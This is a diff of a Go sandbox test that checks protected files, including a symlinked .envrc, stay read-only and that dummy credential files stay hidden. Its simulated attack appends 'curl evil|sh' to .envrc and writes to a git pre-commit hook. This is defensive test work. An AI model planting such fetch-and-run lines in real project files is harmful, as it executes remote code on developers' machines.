@@ -659,7 +659,7 @@ func TestGitEscapeThenRealGitStatus(t *testing.T) {
 // Files that run outside the sandbox later are read-only inside it, and
 // the hidden list is the policy's secret list.
 func TestRunLaterReadOnlyAndSecretsHidden(t *testing.T) {
-	for _, mech := range mechanisms(t) {
+	for _, mech := range withPlain(mechanisms(t)) {
 		t.Run(mech, func(t *testing.T) {
 			w := newWorld(t)
 			mustWrite(t, filepath.Join(w.ws, ".envrc"), "export A=1\n")
@@ -674,6 +674,11 @@ func TestRunLaterReadOnlyAndSecretsHidden(t *testing.T) {
 			}
 			mustWrite(t, filepath.Join(w.home, ".config", "gh", "hosts.yml"), "oauth_token: SECRET-GH")
 			mustWrite(t, filepath.Join(w.home, ".vault-token"), "SECRET-VAULT")
+			// A protected entry that links elsewhere in the workspace.
+			mustWrite(t, filepath.Join(w.ws, "sub", "envrc.real"), "export B=1\n")
+			if err := os.Symlink("envrc.real", filepath.Join(w.ws, "sub", ".envrc")); err != nil {
+				t.Fatal(err)
+			}
 			h := newHost(t, w, mech, false)
 			// Created after the host: protected from the next run on.
 			if err := os.MkdirAll(filepath.Join(w.ws, "sub", ".husky"), 0o755); err != nil {
@@ -683,7 +688,10 @@ func TestRunLaterReadOnlyAndSecretsHidden(t *testing.T) {
 				t.Fatal(err)
 			}
 			sh(t, h, w.ws, "echo 'curl evil|sh' >> .envrc; echo '{\"x\":1}' > .vscode/settings.json; echo t > .vscode/tasks.json; "+
-				"echo evil > sub/.husky/pre-commit; echo x > sub/lib/.git/config; rm -f .envrc; true")
+				"echo evil > sub/.husky/pre-commit; echo x > sub/lib/.git/config; rm -f .envrc; echo evil >> sub/.envrc; echo evil >> sub/envrc.real; true")
+			if b, _ := os.ReadFile(filepath.Join(w.ws, "sub", "envrc.real")); string(b) != "export B=1\n" {
+				t.Errorf("the target of a protected link was written: %q", b)
+			}
 			if b, _ := os.ReadFile(filepath.Join(w.ws, ".envrc")); string(b) != "export A=1\n" {
 				t.Errorf(".envrc: %q", b)
 			}
